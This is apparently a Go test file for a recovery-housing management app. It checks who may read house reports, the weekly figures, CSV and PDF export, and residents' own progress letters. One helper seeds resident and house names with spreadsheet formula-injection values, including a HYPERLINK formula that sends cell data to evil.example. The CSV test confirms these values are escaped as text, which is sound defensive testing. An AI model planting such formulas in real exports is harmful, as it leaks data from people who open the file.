package hooks_test

import (
	"bytes"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pocketbase/pocketbase/core"

	tk "hearth/testkit"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files in testdata/")

// reportWeek is Monday 2026-11-16 to Sunday 2026-11-22 in house A, asked
// at inviteNow (Monday 2026-11-23 in Los Angeles).
const reportWeek = "from=2026-11-16&to=2026-11-22"

// TestHouseReportAccess: the managers of the house, and nobody else.
func TestHouseReportAccess(t *testing.T) {
	w := tk.Seeded(t)
	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek
	partner := setRecord("memberships", w.People[tk.ResidentA1].Membership, map[string]any{"partner": w.People[tk.ResidentA2].ID})
	cases := []pinnedCase{
		{name: "the house's manager", actor: tk.ManagerA, method: "GET", url: url, status: 200, content: []string{`"from":"2026-11-16"`}},
		{name: "another house's manager", actor: tk.ManagerB, method: "GET", url: url, status: 404},
		{name: "a resident", actor: tk.ResidentA1, method: "GET", url: url, status: 404},
		{name: "a resident away", actor: tk.AwayA, method: "GET", url: url, status: 404},
		{name: "a partner", actor: tk.ResidentA2, method: "GET", url: url, prepare: partner, status: 404},
		{name: "an alumnus", actor: tk.AlumnusA, method: "GET", url: url, status: 404},
		{name: "someone discharged", actor: tk.DischargedA, method: "GET", url: url, status: 404},
		{name: "a resident of another house", actor: tk.ResidentB, method: "GET", url: url, status: 404},
		{name: "anonymous", actor: tk.Anonymous, method: "GET", url: url, status: 401},
		{name: "a manager as CSV is still a manager", actor: tk.ManagerB, method: "GET", url: url + "&format=csv", status: 404},
		{name: "no period", actor: tk.ManagerA, method: "GET", url: "/api/hearth/houses/" + w.HouseA + "/report", status: 400,
			content: []string{fieldErrJSON("from", "validation_report_period")}},
		{name: "to before from", actor: tk.ManagerA, method: "GET", url: "/api/hearth/houses/" + w.HouseA + "/report?from=2026-11-22&to=2026-11-16", status: 400},
		{name: "more than a year", actor: tk.ManagerA, method: "GET", url: "/api/hearth/houses/" + w.HouseA + "/report?from=2025-01-01&to=2026-11-22", status: 400},
		{name: "an unknown format", actor: tk.ManagerA, method: "GET", url: url + "&format=xlsx", status: 400,
			content: []string{fieldErrJSON("format", "validation_report_format")}},
	}
	for _, c := range cases {
		c.run(t)
	}
}

// TestHouseReportFigures: the seeded week, counted by hand. Residents A1
// and A2 lived there all week (7 days); awayA was away on Sunday 11-22
// (the chore ledger of that day lists A1 and A2 only): 6 days. The
// alumnus and the discharged person moved out on 10-01 and are not in the
// week. A1 checked in on Sunday and logged an unverified meeting on
// Friday; 3 meetings a week are expected of a full week. Bed-nights 7 + 7
// + 7 (a pass keeps the bed) of 5 beds × 7 days: 60 %.
func TestHouseReportFigures(t *testing.T) {
	w := tk.Seeded(t)
	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek
	id := func(actor string) string { return w.People[actor].ID }
	c := pinnedCase{name: "the week", actor: tk.ManagerA, method: "GET", url: url, status: 200,
		content: []string{
			`"from":"2026-11-16","to":"2026-11-22","through":"2026-11-22"`,
			`{"user":"` + id(tk.ResidentA1) + `","name":"residentA1","status":"active","move_in":"","move_out":"","days":7,"checkins_done":1,"checkins_expected":7,"curfew_checkins":0,"curfew_late":0,"meetings_logged":1,"meetings_verified":0,"meetings_expected":3,`,
			`{"user":"` + id(tk.ResidentA2) + `","name":"residentA2","status":"active","move_in":"","move_out":"","days":7,"checkins_done":0,"checkins_expected":7,`,
			`{"user":"` + id(tk.AwayA) + `","name":"awayA","status":"away","move_in":"","move_out":"","days":6,"checkins_done":0,"checkins_expected":6,`,
			`"house":{"days":7,"capacity":5,"bed_nights":21,"occupancy":60,"move_ins":0,"move_outs":0,"support_posts":0,"support_answered":0,"first_answer_minutes_median":null,`,
			`"weeks":[{"from":"2026-11-16","to":"2026-11-22","house":{"days":7,`,
		},
		hidden: []string{"alumnusA", "dischargedA", "managerA", "residentB", "Good talk"}}
	c.run(t)
}

// hostileNames gives residents A1 and A2 names a spreadsheet would run.
func hostileNames(t testing.TB, app core.App) {
	w := tk.Seeded(t)
	setRecord("users", w.People[tk.ResidentA1].ID, map[string]any{"name": `=HYPERLINK("http://evil.example/?"&A1,"click")`})(t, app)
	setRecord("users", w.People[tk.ResidentA2].ID, map[string]any{"name": "@SUM(1+1)"})(t, app)
	setRecord("users", w.People[tk.AwayA].ID, map[string]any{"name": "-2+3"})(t, app)
	setRecord("houses", w.HouseA, map[string]any{"name": "\t+Cedar, \"House\""})(t, app)
}

// TestHouseReportCSV: every cell quoted, and one a spreadsheet would read
// as a formula kept as text.
func TestHouseReportCSV(t *testing.T) {
	w := tk.Seeded(t)
	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek + "&format=csv"
	c := pinnedCase{name: "hostile names", actor: tk.ManagerA, method: "GET", url: url, prepare: hostileNames, status: 200,
		content: []string{
			"\"house\",\"'\t+Cedar, \"\"House\"\"\"",
			`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","active","","","7","1","7","0","0","1","0","3","0","0","0","0"`,
			`"'@SUM(1+1)","active"`,
			`"'-2+3","away"`,
			`"bed_nights","21"`,
			`"occupancy_percent","60.0"`,
		},
		hidden: []string{`"=`, `"@`, `"+`, "\"\t", `"-`},
		check: func(t testing.TB, app core.App, body []byte) {
			if !bytes.HasSuffix(body, []byte("\r\n")) {
				t.Errorf("the CSV does not end its rows with CRLF")
			}
		},
	}
	c.run(t)
}

// pdfText is the text pdftotext (poppler-utils) finds in a PDF. Without
// pdftotext the test is skipped, except in CI, where it fails.
func pdfText(t testing.TB, pdf []byte) string {
	t.Helper()
	bin, err := exec.LookPath("pdftotext")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("pdftotext is missing: .ci/run installs poppler-utils")
		}
		t.Skip("pdftotext (poppler-utils) is not installed")
	}
	path := filepath.Join(t.TempDir(), "report.pdf")
	if err := os.WriteFile(path, pdf, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(bin, "-layout", "-enc", "UTF-8", path, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	return string(out)
}

// checkGolden compares got with testdata/name, or rewrites it with -update.
func checkGolden(t testing.TB, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to write it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (%d bytes, want %d); if the change is meant, run the test with -update and look at the PDF", name, len(got), len(want))
	}
}

// TestHouseReportPDF: a page per section with its heading, the house, the
// period and when it was made, Spanish names printed as they are, and the
// same bytes for the same data and clock (the golden file).
func TestHouseReportPDF(t *testing.T) {
	w := tk.Seeded(t)
	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek + "&format=pdf"
	spanish := func(t testing.TB, app core.App) {
		setRecord("users", w.People[tk.ResidentA1].ID, map[string]any{"name": "Íñigo Muñoz Peña"})(t, app)
		setRecord("houses", w.HouseA, map[string]any{"name": "Casa del Año Nuevo"})(t, app)
	}
	var first []byte
	for run := range 2 {
		c := pinnedCase{name: "pdf", actor: tk.ManagerA, method: "GET", url: url, prepare: spanish, status: 200,
			content: []string{"%PDF-"},
			check: func(t testing.TB, app core.App, body []byte) {
				if run == 0 {
					first = body
					return
				}
				if !bytes.Equal(first, body) {
					t.Errorf("two PDFs of the same data differ")
				}
				checkGolden(t, "house_report.golden.pdf", body)
				text := pdfText(t, body)
				for _, want := range []string{
					"House report", "Casa del Año Nuevo", "2026-11-16 to 2026-11-22", "Made: 2026-11-23 10:30 PST",
					"Occupancy", "Resident engagement", "Accountability", "Safety",
					"Íñigo Muñoz Peña", "60.0 %", "Bed-nights",
				} {
					if !strings.Contains(text, want) {
						t.Errorf("the PDF's text lacks %q:\n%s", want, text)
					}
				}
				if pages := strings.Count(text, "\f"); pages != 4 {
					t.Errorf("%d pages, want 4 (one per section)", pages)
				}
				for _, hidden := range []string{"alumnusA", "Good talk"} {
					if strings.Contains(text, hidden) {
						t.Errorf("the PDF shows %q", hidden)
					}
				}
			}}
		c.run(t)
	}
}

// TestProgressLetter: a person's own letter, in a house they live or
// lived in, and never anyone else's.
func TestProgressLetter(t *testing.T) {
	w := tk.Seeded(t)
	url := func(house, format string) string {
		return "/api/hearth/me/report?house=" + house + "&from=2026-09-01&to=2026-11-22&format=" + format
	}
	verified := setRecord("meetings", w.MeetingA1, map[string]any{"verified_by": w.People[tk.ManagerA].ID, "verified_at": "2026-11-21 10:00:00.000Z"})
	cases := []pinnedCase{
		{name: "a resident's CSV", actor: tk.ResidentA1, method: "GET", url: url(w.HouseA, "csv"), prepare: verified, status: 200,
			content: []string{`"name","residentA1"`, `"house","Cedar House"`, `"checkins_done","1"`, `"meetings_logged","1"`,
				`"meetings_verified","1"`, `"2026-11-20","aa","Tuesday Night Big Book","verified"`},
			hidden: []string{"residentA2", "awayA", "Good talk"}},
		{name: "an alumnus, after moving out", actor: tk.AlumnusA, method: "GET", url: url(w.HouseA, "csv"), status: 200,
			content: []string{`"name","alumnusA"`, `"move_out","2026-10-01"`, `"days_in_house","30"`},
			hidden:  []string{"residentA1", "Tuesday Night"}},
		{name: "someone discharged", actor: tk.DischargedA, method: "GET", url: url(w.HouseA, "csv"), status: 200,
			content: []string{`"name","dischargedA"`, `"move_out","2026-10-01"`}, hidden: []string{"private reason"}},
		{name: "a house they never lived in", actor: tk.ResidentB, method: "GET", url: url(w.HouseA, "csv"), status: 404},
		{name: "a house that does not exist", actor: tk.ResidentA1, method: "GET", url: url("nosuchhouse0000", "pdf"), status: 404},
		{name: "a user parameter is not read", actor: tk.ResidentA2, method: "GET", url: url(w.HouseA, "csv") + "&user=" + w.People[tk.ResidentA1].ID, status: 200,
			content: []string{`"name","residentA2"`}, hidden: []string{"residentA1", "Tuesday Night"}},
		{name: "no JSON", actor: tk.ResidentA1, method: "GET", url: url(w.HouseA, "json"), status: 400},
		{name: "anonymous", actor: tk.Anonymous, method: "GET", url: url(w.HouseA, "pdf"), status: 401},
		{name: "the PDF", actor: tk.ResidentA1, method: "GET", url: url(w.HouseA, "pdf"), prepare: verified, status: 200,
			content: []string{"%PDF-"},
			check: func(t testing.TB, app core.App, body []byte) {
				text := pdfText(t, body)
				for _, want := range []string{"Attendance and progress: residentA1", "Cedar House", "2026-09-01 to 2026-11-22",
					"Stay", "Meetings", "Tuesday Night Big Book", "verified", "1 of"} {
					if !strings.Contains(text, want) {
						t.Errorf("the letter lacks %q:\n%s", want, text)
					}
				}
			}},
	}
	for _, c := range cases {
		c.run(t)
	}
}
